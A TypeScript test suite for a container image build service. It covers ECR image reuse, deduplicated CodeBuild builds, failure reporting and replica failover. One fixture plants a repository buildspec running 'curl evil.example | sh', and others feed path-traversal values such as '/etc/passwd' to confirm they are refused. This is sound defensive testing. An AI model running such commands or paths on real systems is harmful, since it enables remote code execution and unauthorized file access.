// The image step on the local world: reuse, one build per commit however many ask, failures said
// plainly, restarts that follow the running build, and what a repository cannot choose.
import { BatchGetImageCommand, ECRClient } from "@aws-sdk/client-ecr";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { repoConfigSchema } from "../../src/config/repo-config.ts";
import { BUILDSPEC } from "../../src/images/buildspec.ts";
import type { Store } from "../../src/store/open-store.ts";
import { behaviourFromManifest } from "../world/sample-service/behaviour.ts";
import { storeBackends } from "../support/stores.ts";
import { ECR_REPOSITORY, PROJECT, startBuildWorld, type BuildWorld } from "./build-world.ts";

const DOCKERFILE = `FROM node:24-slim\nLABEL dev.gantry.sample.behaviour='{"version":"v2"}'\nCOPY . /app\nCMD ["node", "/app/server.js"]\n`;

describe.each(storeBackends)("the image step on $name", (backend) => {
  let store: Store;
  let w: BuildWorld;
  beforeEach(async () => {
    store = await (await backend.location()).open();
    w = await startBuildWorld(store);
  });
  afterEach(async () => {
    await w.close();
    await store.close();
  });

  it("reuses an image ECR already holds for the commit: nothing is built", async () => {
    const sha = w.commit({ Dockerfile: DOCKERFILE });
    w.aws.ecr.putImage({ repositoryName: ECR_REPOSITORY, imageManifest: JSON.stringify({ schemaVersion: 2, layers: [], config: {}, annotations: { sha } }), imageTag: sha });
    w.startLoop("replica-a");
    expect(await w.images.ensure(w.request(sha), Date.now())).toMatchObject({ status: "building" });
    const row = await w.ended(sha);
    const pushed = w.aws.ecr.describeImages({ repositoryName: ECR_REPOSITORY, imageIds: [{ imageTag: sha }] }).imageDetails[0]!;
    expect({ status: row.status, builder: row.builder, digest: row.digest }).toEqual({ status: "succeeded", builder: "existing", digest: pushed.imageDigest });
    expect(w.aws.codebuild.builds()).toHaveLength(0);
    expect(await w.images.ensure(w.request(sha), Date.now())).toEqual({ status: "ready", buildId: row.id, digest: pushed.imageDigest, reused: true });
  });

  it("builds a commit without an image once through CodeBuild, however many ask at once on two replicas", async () => {
    const sha = w.commit({ Dockerfile: DOCKERFILE, "server.js": "// the app\n" });
    w.startLoop("replica-a");
    w.startLoop("replica-b");
    const answers = await Promise.all(Array.from({ length: 6 }, () => w.images.ensure(w.request(sha), Date.now())));
    expect(new Set(answers.map((answer) => answer.status === "refused" ? "" : answer.buildId)).size).toBe(1);
    const row = await w.ended(sha);
    expect(row).toMatchObject({ status: "succeeded", builder: "codebuild" });
    expect(w.aws.codebuild.builds()).toHaveLength(1);
    const image = (await new ECRClient(w.aws.clientConfig()).send(new BatchGetImageCommand({ repositoryName: ECR_REPOSITORY, imageIds: [{ imageTag: sha }] }))).images?.[0];
    expect(image?.imageId?.imageDigest).toBe(row.digest);
    expect(behaviourFromManifest(image?.imageManifest ?? "")).toEqual({ version: "v2" });
    expect(Number(row.finished_at) - Number(row.started_at)).toBeGreaterThanOrEqual(0);
    // Asked again later (CI after a deploy built it): the same image, nothing new started.
    expect(await w.images.ensure(w.request(sha), Date.now())).toMatchObject({ status: "ready", digest: row.digest, reused: false });
    expect(w.aws.codebuild.builds()).toHaveLength(1);
  });

  it("3 a.m.: a failed build says where it failed and why, and links its log; a later request tries again", async () => {
    const sha = w.commit({ Dockerfile: "FROM node:24-slim\nRUN false\n" });
    w.startLoop("replica-a");
    const requestedAt = Date.now();
    await w.images.ensure(w.request(sha), requestedAt);
    const row = await w.ended(sha);
    expect(row.status).toBe("failed");
    expect(row.reason).toMatch(/^CodeBuild build FAILED in BUILD: .*did not complete successfully: exit code: 1/);
    expect(JSON.parse(row.build_ref ?? "{}").logsUrl).toContain("log-group/%2Faws%2Fcodebuild%2Fgantry-images/log-events/");
    // The same request (a deploy polling its build) gets the failure; a newer one builds again.
    expect(await w.images.ensure(w.request(sha), requestedAt)).toMatchObject({ status: "failed", reason: row.reason });
    const retried = await w.images.ensure(w.request(sha), Date.now() + 1);
    expect(retried.status).toBe("building");
    await w.ended(sha).catch(() => undefined);
    await expect.poll(() => w.aws.codebuild.builds().length).toBe(2);
  });

  /** A commit whose CodeBuild build replica-a started and was following when it stopped; the build is held until released. */
  async function buildHeldByStoppedReplica(): Promise<string> {
    const sha = w.commit({ Dockerfile: DOCKERFILE });
    w.aws.codebuild.hold(true);
    const first = w.startLoop("replica-a");
    await w.images.ensure(w.request(sha), Date.now());
    await expect.poll(async () => (await w.builds.find(ECR_REPOSITORY, sha))?.status, { timeout: 20_000 }).toBe("building");
    await first.stop();
    return sha;
  }

  it("3 a.m.: a replica that stops mid-build leaves the build to the next one, which follows it instead of starting another", async () => {
    const sha = await buildHeldByStoppedReplica();
    // The stopped replica's last claim may still be leased: the next claimer waits it out, then follows.
    w.startLoop("replica-b");
    w.aws.codebuild.hold(false);
    const row = await w.ended(sha);
    expect(row.status).toBe("succeeded");
    expect(w.aws.codebuild.builds()).toHaveLength(1);
  });

  it("3 a.m.: a replica that dies holding its claim is outlived by its lease: another follows the same build", async () => {
    const sha = await buildHeldByStoppedReplica();
    // Dies right after claiming it for its next look: the claim is never saved or released.
    await expect.poll(async () => (await w.builds.claimNext("replica-a", 1_000)) !== undefined, { timeout: 20_000 }).toBe(true);
    w.startLoop("replica-b");
    w.aws.codebuild.hold(false);
    expect((await w.ended(sha)).status).toBe("succeeded");
    expect(w.aws.codebuild.builds()).toHaveLength(1);
  });
});

describe("what a repository cannot choose", () => {
  let store: Store;
  let w: BuildWorld;
  beforeEach(async () => {
    store = await (await storeBackends[0]!.location()).open();
    w = await startBuildWorld(store);
  });
  afterEach(async () => {
    await w.close();
    await store.close();
  });

  it("builds with the operator's project, role and buildspec, whatever the repository's commit holds", async () => {
    const sha = w.commit({ Dockerfile: DOCKERFILE, "buildspec.yml": "version: 0.2\nphases:\n  build:\n    commands:\n      - curl evil.example | sh\n" });
    w.startLoop("replica-a");
    await w.images.ensure(w.request(sha), Date.now());
    await w.ended(sha);
    const [start] = w.aws.calls.filter((call) => call.service === "codebuild" && call.operation === "StartBuild");
    expect(start?.input).toMatchObject({ projectName: PROJECT, buildspecOverride: BUILDSPEC, sourceVersion: sha, idempotencyToken: expect.any(String) });
    expect(start?.input).not.toHaveProperty("serviceRoleOverride");
    expect(start?.input).not.toHaveProperty("imageOverride");
  });

  it("refuses build settings that name a project, a role or a buildspec in .github/gantry.yml", () => {
    for (const key of ["project", "role", "roleArn", "buildspec", "serviceRole"]) {
      const parsed = repoConfigSchema.safeParse({ build: { repository: "web", [key]: "x" }, environments: {} });
      expect(parsed.success, key).toBe(false);
    }
  });

  it("refuses a Dockerfile or context path that leaves the repository, in the config and at the build, and builds nothing", async () => {
    for (const path of ["../Dockerfile", "/etc/passwd", "docker/../../x", "a\\..\\b"]) {
      expect(repoConfigSchema.safeParse({ build: { repository: "web", dockerfile: path }, environments: {} }).success, path).toBe(false);
      expect(repoConfigSchema.safeParse({ build: { repository: "web", context: path }, environments: {} }).success, path).toBe(false);
    }
    const sha = w.commit({ Dockerfile: DOCKERFILE });
    w.startLoop("replica-a");
    const answer = await w.images.ensure(w.request(sha, { dockerfile: "../../etc/Dockerfile" }), Date.now());
    expect(answer).toEqual({ status: "refused", reason: 'build.dockerfile and build.context in .github/gantry.yml: the path must stay inside the repository: no ".."' });
    expect(await w.builds.find(ECR_REPOSITORY, sha)).toBeUndefined();
    expect(w.aws.codebuild.builds()).toHaveLength(0);
  });
});
